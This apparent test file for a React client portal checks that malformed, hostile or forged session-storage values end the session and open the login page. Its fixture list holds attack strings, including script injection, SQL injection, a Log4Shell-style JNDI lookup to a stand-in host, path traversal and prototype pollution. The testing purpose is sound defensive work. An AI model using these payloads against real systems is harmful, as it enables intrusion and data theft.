import { render, screen } from '@testing-library/react';
import { RouterProvider } from 'react-router-dom';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { Providers } from '#src/app/providers.tsx';
import { createPortalRouter } from '#src/app/router.tsx';
import { login } from '#src/sdk/generated/auth/auth.ts';
import { searchClients } from '#src/sdk/generated/staff/staff.ts';
import { handleExpiredSessions, takeSessionEndReason } from '#src/session/session-end.ts';
import {
  clearSession,
  getCurrentSession,
  restoreSession,
  startSession,
} from '#src/session/session-store.ts';
import { startMockApi } from '#tests/support/mock-api.ts';
// Loads the page module before the first test. Otherwise the first test would wait for it.
import '#src/app/pages/dashboard-page.tsx';

const KEY = 'portal.token';

/** Invalid contents of the session storage: malformed, unusual or hostile. */
const NO_SESSIONS = [
  '',
  ' ',
  'null',
  'undefined',
  'true',
  '0',
  '-1',
  '1e999',
  'NaN',
  '""',
  '"token"',
  '[]',
  '[[[[[[[[]]]]]]]]',
  '{}',
  '{',
  '}',
  '{"token":',
  '{"token":"a"',
  '{"token":"a",}',
  "{'token':'a'}",
  '{"token":null}',
  '{"token":{"$ne":null}}',
  '{"token":["a"]}',
  '{"token":"a","user":null,"group":"Company","roles":[]}',
  '{"token":"a","user":{},"group":"Company","roles":[]}',
  '{"__proto__":{"token":"a","group":"Company"}}',
  '{"constructor":{"prototype":{"token":"a"}}}',
  '\uFEFF{"token":"a"}',
  '{"token":"a"}{"token":"b"}',
  '{"token":"\u0000"}\u0000',
  '<script>alert(1)</script>',
  'javascript:alert(1)',
  "' OR 1=1 --",
  '${jndi:ldap://evil.example/a}',
  '../../etc/passwd',
  '\u202egnp.exe',
  '😀'.repeat(1_000),
  '['.repeat(100_000),
  `{"token":${'9'.repeat(10_000)}}`,
];

type Forgery = (session: Record<string, unknown>) => Record<string, unknown>;

let router: ReturnType<typeof createPortalRouter> | undefined;

async function openForged(username: string, forge: Forgery, address: string) {
  startSession(await login({ username, password: 'Portfolio1!' }));
  const genuine: unknown = JSON.parse(sessionStorage.getItem(KEY) ?? 'null');
  sessionStorage.setItem(KEY, JSON.stringify(forge({ ...Object(genuine) })));
  restoreSession();
  open(address);
}

function open(address: string) {
  window.history.replaceState(null, '', address);
  router = createPortalRouter();
  render(
    <Providers>
      <RouterProvider router={router} />
    </Providers>,
  );
}

const loginHeading = () => screen.findByRole('heading', { level: 1, name: 'Log in' });

beforeEach(() => {
  startMockApi();
  handleExpiredSessions();
});
afterEach(() => {
  router?.dispose();
  clearSession();
  takeSessionEndReason();
  window.history.replaceState(null, '', '/');
});

describe('invalid content in the session storage', () => {
  it.each(NO_SESSIONS.map((text) => [text.slice(0, 40), text]))(
    'an invalid stored session is removed and counts as logged out: %j',
    (_name, text) => {
      sessionStorage.setItem(KEY, text);
      expect(restoreSession()).toBeNull();
      expect(sessionStorage.getItem(KEY)).toBeNull();
      expect({}).not.toHaveProperty('token');
    },
  );

  it('an invalid stored session opens the login', async () => {
    sessionStorage.setItem(KEY, '{"token":');
    restoreSession();
    open('/dashboard');
    await loginHeading();
  });
});

describe('forged session in the session storage', () => {
  it('a made-up token ends the session at the first call and opens the login', async () => {
    await openForged('investor', (session) => ({ ...session, token: 'made-up' }), '/dashboard');
    await loginHeading();
    expect(getCurrentSession()).toBeNull();
  });

  it("a made-up token at the client search opens the login without 'You are logged in as'", async () => {
    await openForged('investor', (session) => ({ ...session, token: 'made-up' }), '/search');
    expect(await screen.findByLabelText('Username')).toBeEnabled();
    expect(document.body).not.toHaveTextContent('You are logged in as');
    expect(getCurrentSession()).toBeNull();
  });

  it('a forged staff group opens the client search, but its first search ends the session', async () => {
    await openForged('investor', (session) => ({ ...session, group: 'Company' }), '/search');
    await screen.findByRole('heading', { level: 1, name: 'Client search' });
    await searchClients({ clientName: 'Hart' }).catch(() => undefined);
    await loginHeading();
    expect(getCurrentSession()).toBeNull();
  });

  it('acting as a client whom the user may not view ends the session', async () => {
    const acting = { as: 'client-100236', asName: 'Somebody Else' };
    await openForged('investor', (session) => ({ ...session, ...acting }), '/dashboard');
    await loginHeading();
    expect(getCurrentSession()).toBeNull();
    expect(document.body).not.toHaveTextContent('Somebody Else');
  });

  it("a forged name is shown, but the data still belongs to the token's user", async () => {
    const user = { fullName: 'Mr Daniel Hart', username: 'partner' };
    await openForged(
      'investor',
      (session) => ({ ...session, user: { ...Object(session['user']), ...user } }),
      '/dashboard',
    );
    // The server identifies the user by the token, so the page still shows the investor's account.
    await screen.findByText('Client number: 100234');
  });
});
